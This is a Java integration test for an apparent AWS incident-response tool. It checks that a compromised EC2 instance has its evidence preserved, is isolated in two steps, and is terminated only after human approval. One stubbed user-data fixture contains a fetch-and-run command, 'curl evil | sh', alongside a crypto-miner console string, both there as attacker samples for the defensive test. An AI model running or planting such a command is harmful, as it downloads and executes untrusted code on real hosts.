package io.trailhound.respond.engine;

import static com.github.tomakehurst.wiremock.client.WireMock.aResponse;
import static com.github.tomakehurst.wiremock.client.WireMock.head;
import static com.github.tomakehurst.wiremock.client.WireMock.put;
import static com.github.tomakehurst.wiremock.client.WireMock.urlPathMatching;
import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.util.Base64;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;

import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;

import io.trailhound.avro.ActionStatus;
import io.trailhound.avro.Alert;
import io.trailhound.avro.ApprovalDecision;
import io.trailhound.avro.Decision;
import io.trailhound.avro.Entities;
import io.trailhound.avro.ResponseAction;
import io.trailhound.respond.ResponderConfig;
import io.trailhound.respond.TestAlerts;
import io.trailhound.respond.aws.StepExecutors;
import io.trailhound.testkit.aws.AwsEndpointExtension;
import io.trailhound.testkit.aws.AwsOperation;
import io.trailhound.testkit.aws.AwsQueryService;
import io.trailhound.testkit.aws.AwsRequest;
import io.trailhound.testkit.aws.S3Endpoint;

/**
 * The EC2 runbook through the real SDK clients against a local EC2/STS endpoint and S3Mock for the evidence bucket: evidence
 * and snapshots before any change, the allow-all group before the quarantine group on every interface, and no removal from
 * service or termination without approval.
 */
class Ec2CompromiseResponseIT {

    @RegisterExtension
    static final AwsEndpointExtension AWS = new AwsEndpointExtension();
    @RegisterExtension
    static final S3Endpoint S3 = new S3Endpoint();

    private static final String INSTANCE = "i-0123456789abcdef0";
    private static final String CONSOLE = "Linux version 6.1 ... xmrig started";
    private static final List<String> EVIDENCE = List.of("GetConsoleOutput", "GetConsoleScreenshot", "CreateSnapshots");
    private static final List<String> CHANGES = List.of("ModifyInstanceAttribute", "CreateTags", "CreateSecurityGroup",
        "ModifyNetworkInterfaceAttribute", "DisassociateIamInstanceProfile", "TerminateInstances");

    private static final String DENY_ALL_PROFILE = "arn:aws:iam::111122223333:instance-profile/trailhound-deny-all";
    private static final String TOPIC = "arn:aws:sns:us-east-1:111122223333:soc";
    private static final String TARGET_GROUP = "arn:aws:elasticloadbalancing:us-east-1:111122223333:targetgroup/web/0123";

    private static int bucket;
    private String bucketName;

    @BeforeEach
    void stubEc2() {
        bucketName = "evidence-" + (++bucket);
        createBucket(bucketName);
        stubInstance("");
        AWS.stubQuery(AwsQueryService.EC2, "DescribeInstanceAttribute", Map.of("Attribute", "userData"),
            "<instanceId>" + INSTANCE + "</instanceId><userData><value>" + base64("#!/bin/bash\ncurl evil | sh") + "</value></userData>");
        AWS.stubQuery(AwsQueryService.EC2, "DescribeInstanceAttribute", Map.of("Attribute", "disableApiTermination"),
            "<instanceId>" + INSTANCE + "</instanceId><disableApiTermination><value>false</value></disableApiTermination>");
        AWS.stubQuery(AwsQueryService.EC2, "DescribeInstanceAttribute", Map.of("Attribute", "instanceInitiatedShutdownBehavior"),
            "<instanceId>" + INSTANCE + "</instanceId><instanceInitiatedShutdownBehavior><value>terminate</value>"
                + "</instanceInitiatedShutdownBehavior>");
        AWS.stubQuery(AwsQueryService.EC2, "DescribeIamInstanceProfileAssociations", "<iamInstanceProfileAssociationSet><item>"
            + "<associationId>iip-assoc-1</associationId><instanceId>" + INSTANCE + "</instanceId><iamInstanceProfile>"
            + "<arn>arn:aws:iam::111122223333:instance-profile/web</arn><id>AIPAEXAMPLE</id></iamInstanceProfile>"
            + "<state>associated</state></item></iamInstanceProfileAssociationSet>");
        AWS.stubQuery(AwsQueryService.EC2, "GetConsoleOutput", "<instanceId>" + INSTANCE + "</instanceId>"
            + "<timestamp>2026-11-28T00:09:00.000Z</timestamp><output>" + base64(CONSOLE) + "</output>");
        AWS.stubQuery(AwsQueryService.EC2, "GetConsoleScreenshot", "<instanceId>" + INSTANCE + "</instanceId><imageData>"
            + Base64.getEncoder().encodeToString(new byte[] {(byte) 0xFF, (byte) 0xD8, 1, 2}) + "</imageData>");
        AWS.stubQuery(AwsQueryService.EC2, "DescribeSnapshots", "<snapshotSet/>");
        AWS.stubQuery(AwsQueryService.EC2, "CreateSnapshots", "<snapshotSet><item><snapshotId>snap-1</snapshotId>"
            + "<volumeId>vol-1</volumeId></item><item><snapshotId>snap-2</snapshotId><volumeId>vol-2</volumeId></item></snapshotSet>");
        AWS.stubQuery(AwsQueryService.EC2, "ModifyInstanceAttribute", "<return>true</return>");
        AWS.stubQuery(AwsQueryService.EC2, "CreateTags", "<return>true</return>");
        AWS.stubQuery(AwsQueryService.EC2, "DescribeSecurityGroups", "<securityGroupInfo/>");
        AWS.stubQuery(AwsQueryService.EC2, "CreateSecurityGroup", Map.of("GroupName", "trailhound-isolation-allow-all"),
            "<return>true</return><groupId>sg-allowall</groupId>");
        AWS.stubQuery(AwsQueryService.EC2, "CreateSecurityGroup", Map.of("GroupName", "trailhound-quarantine"),
            "<return>true</return><groupId>sg-quarantine</groupId>");
        AWS.stubQuery(AwsQueryService.EC2, "AuthorizeSecurityGroupIngress", "<return>true</return>");
        AWS.stubQuery(AwsQueryService.EC2, "RevokeSecurityGroupEgress", "<return>true</return>");
        AWS.stubQuery(AwsQueryService.EC2, "ModifyNetworkInterfaceAttribute", "<return>true</return>");
        AWS.stubQuery(AwsQueryService.EC2, "DisassociateIamInstanceProfile", "<iamInstanceProfileAssociation>"
            + "<associationId>iip-assoc-1</associationId><state>disassociating</state></iamInstanceProfileAssociation>");
        AWS.stubQuery(AwsQueryService.EC2, "TerminateInstances", "<instancesSet/>");
        QueryStubs.AUTO_SCALING.stub(AWS.wireMock(), "DescribeAutoScalingInstances", "<AutoScalingInstances/>");
        QueryStubs.ELB.stub(AWS.wireMock(), "DescribeTargetGroups", "<TargetGroups/>");
    }

    @Test
    void shouldKeepTheGroupFromReplacingTheEvidenceAndRemoveFromServiceOnlyAfterApproval() {
        stubGroupMembership();
        stubForensics();
        Map<String, String> config = Map.of(ResponderConfig.QUARANTINE_PROFILE_CONFIG, DENY_ALL_PROFILE,
            ResponderConfig.FORENSIC_ACCOUNT_CONFIG, "999900001111", ResponderConfig.MEMORY_CAPTURE_DOCUMENT_CONFIG, "LiME-Capture",
            ResponderConfig.NOTIFICATION_TOPIC_CONFIG, TOPIC, ResponderConfig.EVIDENCE_RETENTION_DAYS_CONFIG, "30");
        Alert alert = TestAlerts.instance(INSTANCE).setEntities(Entities.newBuilder().setInstanceIds(List.of(INSTANCE))
            .setRoleArns(List.of("arn:aws:iam::111122223333:role/web")).build())
            .setFindingTypes(List.of("Backdoor:EC2/C&CActivity.B")).build();
        try (LocalResponder local = new LocalResponder(AWS, null, config)) {
            List<ResponseAction> records = local.responder.respond(alert);
            List<String> calls = AWS.requests().stream().map(AwsRequest::action).toList();
            assertInOrder(calls, "AmazonSSM.SendCommand", "CreateSnapshots", "SetInstanceProtection", "EnterStandby",
                "ModifyInstanceAttribute", "ModifyNetworkInterfaceAttribute", "PutRolePolicy", "ReplaceIamInstanceProfileAssociation",
                "ModifySnapshotAttribute", "Publish");
            assertEquals("false", AWS.verifyCalled("EnterStandby").param("ShouldDecrementDesiredCapacity"));
            assertEquals("web-asg", AWS.verifyCalled("SetInstanceProtection").param("AutoScalingGroupName"));
            assertEquals("true", AWS.verifyCalled("SetInstanceProtection").param("ProtectedFromScaleIn"));
            assertEquals(DENY_ALL_PROFILE, AWS.verifyCalled("ReplaceIamInstanceProfileAssociation").param("IamInstanceProfile.Arn"));
            assertEquals("iip-assoc-1", AWS.verifyCalled("ReplaceIamInstanceProfileAssociation").param("AssociationId"));
            assertTrue(AWS.requests("DisassociateIamInstanceProfile").isEmpty());
            AwsRequest share = AWS.verifyCalled("ModifySnapshotAttribute");
            assertEquals("snap-1", share.param("SnapshotId"));
            assertEquals("999900001111", share.param("UserId.1"));
            assertEquals("add", share.param("OperationType"));
            assertTrue(AWS.verifyCalled("SendCommand").body().contains("\"DocumentName\":\"LiME-Capture\""));
            assertTrue(AWS.requests("DetachInstances").isEmpty() && AWS.requests("DeregisterTargets").isEmpty(),
                "no removal from service before approval");
            assertEvidenceLocked();
            AwsRequest first = AWS.verifyCalled("Publish", 1).get(0);
            assertEquals(TOPIC, first.param("TopicArn"));
            assertTrue(first.param("Subject").contains("2 awaiting approval"), first.param("Subject"));
            assertTrue(first.param("Message").contains("\"awaitingApproval\":2"), first.param("Message"));

            local.responder.respond(alert);
            AWS.verifyCalled("Publish", 1);

            for (String action : List.of("autoscaling:DetachInstances", "elasticloadbalancing:DeregisterTargets")) {
                List<ResponseAction> decided = local.responder.decide(decision(find(records, action).getActionId(), Decision.APPROVED));
                assertEquals(ActionStatus.EXECUTED, decided.get(1).getStatus(), decided.toString());
            }
            AwsRequest detach = AWS.verifyCalled("DetachInstances");
            assertEquals(INSTANCE, detach.param("InstanceIds.member.1"));
            assertEquals("false", detach.param("ShouldDecrementDesiredCapacity"));
            AwsRequest deregister = AWS.verifyCalled("DeregisterTargets");
            assertEquals(TARGET_GROUP, deregister.param("TargetGroupArn"));
            assertEquals(INSTANCE + ":80", deregister.param("Targets.member.1.Id") + ":" + deregister.param("Targets.member.1.Port"));
            List<AwsRequest> published = AWS.verifyCalled("Publish", 3);
            assertTrue(published.get(2).param("Subject").contains("0 awaiting approval"), published.get(2).param("Subject"));
            Set<String> allowed = StepExecutors.standard(new ResponderConfig(config).runbookSettings(), Map.of()).awsActions();
            assertTrue(allowed.containsAll(LocalResponder.calledActions(AWS)), LocalResponder.calledActions(AWS).toString());
        }
    }

    /** S3Mock's first answer can take longer than the test kit's 10 s on a loaded machine: try again before giving up. */
    private static void createBucket(String name) {
        for (int attempt = 1; ; attempt++) {
            try {
                S3.createBucket(name);
                return;
            } catch (UncheckedIOException e) {
                if (attempt == 3) {
                    throw e;
                }
            }
        }
    }

    private static void assertEvidenceLocked() {
        List<AwsRequest> puts = AWS.requests().stream().filter(r -> r.method().equals("PUT") && r.path().contains("/inc-1/")).toList();
        assertEquals(5, puts.size(), puts.stream().map(AwsRequest::path).toList().toString());
        for (AwsRequest put : puts) {
            assertEquals("COMPLIANCE", put.header("x-amz-object-lock-mode"), put.path());
            Instant until = Instant.parse(put.header("x-amz-object-lock-retain-until-date"));
            assertTrue(until.isAfter(Instant.now().plus(Duration.ofDays(29))) && until.isBefore(Instant.now().plus(Duration.ofDays(31))));
            assertEquals("trailhound%3Aincident=inc-1", put.header("x-amz-tagging"));
        }
    }

    private static void assertInOrder(List<String> calls, String... expected) {
        int at = -1;
        for (String call : expected) {
            int next = calls.subList(at + 1, calls.size()).indexOf(call);
            assertTrue(next >= 0, call + " after position " + at + " in " + calls);
            at += next + 1;
        }
    }

    private static void stubGroupMembership() {
        QueryStubs.AUTO_SCALING.stub(AWS.wireMock(), "DescribeAutoScalingInstances", "<AutoScalingInstances><member><InstanceId>"
            + INSTANCE + "</InstanceId><AutoScalingGroupName>web-asg</AutoScalingGroupName><AvailabilityZone>us-east-1a"
            + "</AvailabilityZone><LifecycleState>InService</LifecycleState><HealthStatus>HEALTHY</HealthStatus>"
            + "<ProtectedFromScaleIn>false</ProtectedFromScaleIn></member></AutoScalingInstances>");
        QueryStubs.AUTO_SCALING.stub(AWS.wireMock(), "SetInstanceProtection", "");
        QueryStubs.AUTO_SCALING.stub(AWS.wireMock(), "EnterStandby", "<Activities/>");
        QueryStubs.AUTO_SCALING.stub(AWS.wireMock(), "DetachInstances", "<Activities/>");
        QueryStubs.ELB.stub(AWS.wireMock(), "DescribeTargetGroups", "<TargetGroups><member><TargetGroupArn>" + TARGET_GROUP
            + "</TargetGroupArn><TargetType>instance</TargetType></member><member><TargetGroupArn>" + TARGET_GROUP + "-ip"
            + "</TargetGroupArn><TargetType>ip</TargetType></member></TargetGroups>");
        QueryStubs.ELB.stub(AWS.wireMock(), "DescribeTargetHealth", "<TargetHealthDescriptions><member><Target><Id>" + INSTANCE
            + "</Id><Port>80</Port></Target><TargetHealth><State>healthy</State></TargetHealth></member></TargetHealthDescriptions>");
        QueryStubs.ELB.stub(AWS.wireMock(), "DeregisterTargets", "");
        QueryStubs.SNS.stub(AWS.wireMock(), "Publish", "<MessageId>m-1</MessageId>");
    }

    private static void stubForensics() {
        AWS.stubJson("AmazonSSM.ListCommands", "{\"Commands\":[]}");
        AWS.stubJson("AmazonSSM.SendCommand", "{\"Command\":{\"CommandId\":\"cmd-1\"}}");
        AWS.stubQuery(AwsQueryService.EC2, "ReplaceIamInstanceProfileAssociation", "<iamInstanceProfileAssociation>"
            + "<associationId>iip-assoc-2</associationId><state>associating</state></iamInstanceProfileAssociation>");
        AwsOperation snapshots = AwsOperation.query(AwsQueryService.EC2, "DescribeSnapshots");
        AWS.stubSequence(snapshots, snapshots.success("<snapshotSet/>"), snapshots.success("<snapshotSet><item><snapshotId>snap-1"
            + "</snapshotId><volumeId>vol-1</volumeId><status>pending</status></item></snapshotSet>"));
        AWS.stubQuery(AwsQueryService.EC2, "DescribeSnapshotAttribute", "<snapshotId>snap-1</snapshotId><createVolumePermission/>");
        AWS.stubQuery(AwsQueryService.EC2, "ModifySnapshotAttribute", "<return>true</return>");
        AWS.stubQueryError(AwsQueryService.IAM, "GetRolePolicy", 404, "NoSuchEntity", "none");
        AWS.stubQuery(AwsQueryService.IAM, "PutRolePolicy", "");
        AWS.wireMock().stubFor(head(urlPathMatching("/trailhound-evidence/.*")).willReturn(aResponse().withStatus(404)));
        AWS.wireMock().stubFor(put(urlPathMatching("/trailhound-evidence/.*"))
            .willReturn(aResponse().withStatus(200).withHeader("x-amz-request-id", "put-evidence")));
    }

    @Test
    void shouldPreserveEvidenceThenIsolateInTwoStepsOnEveryInterface() {
        List<ResponseAction> records;
        try (LocalResponder local = responder(Map.of())) {
            records = local.responder.respond(TestAlerts.instance(INSTANCE).build());
        }
        List<String> calls = AWS.requests().stream().map(AwsRequest::action).toList();
        int lastEvidence = EVIDENCE.stream().mapToInt(calls::lastIndexOf).max().orElseThrow();
        int firstChange = CHANGES.stream().mapToInt(calls::indexOf).filter(i -> i >= 0).min().orElseThrow();
        assertTrue(EVIDENCE.stream().allMatch(calls::contains), calls.toString());
        assertTrue(lastEvidence < firstChange, "evidence and snapshots before any change: " + calls);

        List<String> moves = AWS.requests("ModifyNetworkInterfaceAttribute").stream()
            .map(r -> r.param("NetworkInterfaceId") + ">" + r.param("SecurityGroupId.1")).toList();
        assertEquals(List.of("eni-1>sg-allowall", "eni-2>sg-allowall", "eni-1>sg-quarantine", "eni-2>sg-quarantine"), moves);
        AwsRequest tag = AWS.verifyCalled("CreateTags");
        assertTrue(calls.indexOf("CreateTags") < calls.indexOf("ModifyNetworkInterfaceAttribute"), "original groups recorded first");
        assertEquals("eni-1=sg-web+sg-ssh;eni-2=sg-db", tag.param("Tag.1.Value"));
        assertEquals("0.0.0.0/0", AWS.verifyCalled("RevokeSecurityGroupEgress").param("IpPermissions.1.IpRanges.1.CidrIp"));
        assertEquals("inc-1", AWS.verifyCalled("CreateSnapshots").param("TagSpecification.1.Tag.1.Value"));

        List<String> modified = AWS.requests("ModifyInstanceAttribute").stream().map(r -> r.params().keySet().stream()
            .filter(k -> !List.of("Action", "Version", "InstanceId").contains(k)).findFirst().orElse("")).toList();
        assertEquals(List.of("DisableApiTermination.Value", "InstanceInitiatedShutdownBehavior.Value",
            "BlockDeviceMapping.1.DeviceName"), modified);
        assertEquals("false", AWS.requests("ModifyInstanceAttribute").get(2).param("BlockDeviceMapping.1.Ebs.DeleteOnTermination"));

        assertArrayEquals(CONSOLE.getBytes(StandardCharsets.UTF_8),
            S3.get(bucketName, "inc-1/" + INSTANCE + "/console-output.txt"));
        assertTrue(new String(S3.get(bucketName, "inc-1/" + INSTANCE + "/user-data.txt"), StandardCharsets.UTF_8).contains("curl evil"));

        assertTrue(AWS.requests("TerminateInstances").isEmpty());
        assertTrue(LocalResponder.POLICY_ACTIONS.containsAll(LocalResponder.calledActions(AWS)),
            "the least-privilege policy allows every call made: " + LocalResponder.calledActions(AWS));
        assertEquals(ActionStatus.AWAITING_APPROVAL, find(records, "autoscaling:DetachInstances").getStatus());
        assertEquals(ActionStatus.AWAITING_APPROVAL, find(records, "elasticloadbalancing:DeregisterTargets").getStatus());
    }

    @Test
    void shouldTerminateOnlyAfterAnApproval() {
        try (LocalResponder local = responder(Map.of(ResponderConfig.TERMINATE_CONFIG, "true"))) {
            List<ResponseAction> records = local.responder.respond(TestAlerts.instance(INSTANCE).build());
            ResponseAction waiting = find(records, "ec2:TerminateInstances");
            assertEquals(ActionStatus.AWAITING_APPROVAL, waiting.getStatus());
            assertTrue(AWS.requests("TerminateInstances").isEmpty(), "no termination without approval");
            assertTrue(local.approvals.requests.stream().anyMatch(r -> r.getActionId().equals(waiting.getActionId())));

            local.responder.respond(TestAlerts.instance(INSTANCE).build());
            assertTrue(AWS.requests("TerminateInstances").isEmpty(), "a re-delivered alert does not approve anything");
            assertEquals("inc-1", AWS.requests("CreateTags").get(0).param("Tag.2.Value"), "isolation tagged the instance");
            // the stub does not apply CreateTags: from now on it describes the instance as AWS would after isolation
            stubInstance(QUARANTINE_TAG);

            List<ResponseAction> decided = local.responder.decide(decision(waiting.getActionId(), Decision.APPROVED));
            assertEquals(List.of(ActionStatus.APPROVED, ActionStatus.EXECUTED), decided.stream().map(ResponseAction::getStatus).toList());
            assertEquals("alice", decided.get(0).getActor());
            assertEquals(INSTANCE, AWS.verifyCalled("TerminateInstances", 1).get(0).param("InstanceId.1"));
            assertTrue(LocalResponder.POLICY_ACTIONS.containsAll(LocalResponder.calledActions(AWS)), LocalResponder.calledActions(AWS)
                .toString());
        }
    }

    @Test
    void shouldNotTerminateAnInstanceItNeverQuarantined() {
        try (LocalResponder local = responder(Map.of(ResponderConfig.TERMINATE_CONFIG, "true"))) {
            ResponseAction waiting = find(local.responder.respond(TestAlerts.instance(INSTANCE).build()), "ec2:TerminateInstances");
            int modifications = AWS.requests("ModifyInstanceAttribute").size();
            // the instance lost (or never got) the responder's quarantine tag before the approval came
            List<ResponseAction> decided = local.responder.decide(decision(waiting.getActionId(), Decision.APPROVED));
            ResponseAction last = decided.get(decided.size() - 1);
            assertEquals(ActionStatus.FAILED, last.getStatus());
            assertTrue(String.valueOf(last.getErrorCode()).contains("NotQuarantined"), String.valueOf(last.getErrorCode()));
            assertTrue(AWS.requests("TerminateInstances").isEmpty());
            assertEquals(modifications, AWS.requests("ModifyInstanceAttribute").size(), "termination protection stays on");
        }
    }

    @Test
    void shouldNeverTerminateWhenRejected() {
        try (LocalResponder local = responder(Map.of(ResponderConfig.TERMINATE_CONFIG, "true"))) {
            ResponseAction waiting = find(local.responder.respond(TestAlerts.instance(INSTANCE).build()), "ec2:TerminateInstances");
            List<ResponseAction> decided = local.responder.decide(decision(waiting.getActionId(), Decision.REJECTED));
            assertEquals(ActionStatus.REJECTED, decided.get(0).getStatus());
            assertTrue(local.responder.decide(decision(waiting.getActionId(), Decision.APPROVED)).isEmpty(), "a decided action is final");
            assertTrue(AWS.requests("TerminateInstances").isEmpty());
        }
    }

    @Test
    void shouldLeaveAnInstanceWithAProtectingTagAlone() {
        stubInstance("<tagSet><item><key>trailhound:protected</key><value>true</value></item></tagSet>");
        List<ResponseAction> records;
        try (LocalResponder local = responder(Map.of())) {
            records = local.responder.respond(TestAlerts.instance(INSTANCE).build());
        }
        List<String> calls = AWS.requests().stream().map(AwsRequest::action).toList();
        assertTrue(calls.stream().noneMatch(CHANGES::contains) && calls.stream().noneMatch(EVIDENCE::contains), calls.toString());
        assertTrue(records.stream().filter(r -> r.getAwsAction().startsWith("ec2:"))
            .allMatch(r -> r.getStatus() == ActionStatus.SKIPPED && r.getReason().contains("trailhound:protected=true")));
    }

    @Test
    void shouldTagAndStopLaunchedInstancesAndTerminateOnlyAfterApproval() {
        AWS.stubQuery(AwsQueryService.EC2, "StopInstances", "<instancesSet/>");
        // the stub does not apply CreateTags: it describes the instance carrying the incident tag the first step sets
        stubInstance(QUARANTINE_TAG);
        List<ResponseAction> records;
        try (LocalResponder local = responder(Map.of())) {
            records = local.responder.respond(TestAlerts.instance(INSTANCE).setRunbook("unauthorized-resource-creation").build());
        }
        List<String> calls = AWS.requests().stream().map(AwsRequest::action).filter(CHANGES::contains).toList();
        assertEquals(List.of("CreateTags"), calls.subList(0, 1));
        assertEquals(INSTANCE, AWS.verifyCalled("StopInstances", 1).get(0).param("InstanceId.1"));
        assertEquals("inc-1", AWS.verifyCalled("CreateTags").param("Tag.1.Value"));
        assertTrue(AWS.requests("TerminateInstances").isEmpty());
        assertEquals(ActionStatus.AWAITING_APPROVAL, find(records, "ec2:TerminateInstances").getStatus());
    }

    private LocalResponder responder(Map<String, String> overrides) {
        Map<String, String> props = new HashMap<>(overrides);
        props.put(ResponderConfig.EVIDENCE_BUCKET_CONFIG, bucketName);
        return new LocalResponder(AWS, S3.endpoint(), props);
    }

    /** The tag isolation or the unauthorized-resource runbook sets: the member role stops and terminates only such instances. */
    private static final String QUARANTINE_TAG = "<tagSet><item><key>trailhound:incident</key><value>inc-1</value></item></tagSet>";

    private static void stubInstance(String tags) {
        AWS.stubQuery(AwsQueryService.EC2, "DescribeInstances", "<reservationSet><item><reservationId>r-1</reservationId>"
            + "<instancesSet><item><instanceId>" + INSTANCE + "</instanceId><instanceState><code>16</code><name>running</name>"
            + "</instanceState><vpcId>vpc-1</vpcId>" + tags
            + "<blockDeviceMapping><item><deviceName>/dev/xvda</deviceName><ebs><volumeId>vol-1</volumeId>"
            + "<deleteOnTermination>true</deleteOnTermination></ebs></item><item><deviceName>/dev/xvdb</deviceName><ebs>"
            + "<volumeId>vol-2</volumeId><deleteOnTermination>false</deleteOnTermination></ebs></item></blockDeviceMapping>"
            + "<networkInterfaceSet><item><networkInterfaceId>eni-1</networkInterfaceId><groupSet>"
            + "<item><groupId>sg-web</groupId></item><item><groupId>sg-ssh</groupId></item></groupSet></item>"
            + "<item><networkInterfaceId>eni-2</networkInterfaceId><groupSet><item><groupId>sg-db</groupId></item></groupSet></item>"
            + "</networkInterfaceSet></item></instancesSet></item></reservationSet>");
    }

    private static ApprovalDecision decision(String actionId, Decision decision) {
        return ApprovalDecision.newBuilder().setRequestId("r").setActionId(actionId).setDecision(decision).setApprover("alice")
            .setDecidedAt(TestAlerts.NOW.plusSeconds(60)).build();
    }

    private static String base64(String text) {
        return Base64.getEncoder().encodeToString(text.getBytes(StandardCharsets.UTF_8));
    }

    private static ResponseAction find(List<ResponseAction> records, String action) {
        return records.stream().filter(r -> r.getAwsAction().equals(action)).findFirst().orElseThrow(() -> new AssertionError(action));
    }
}
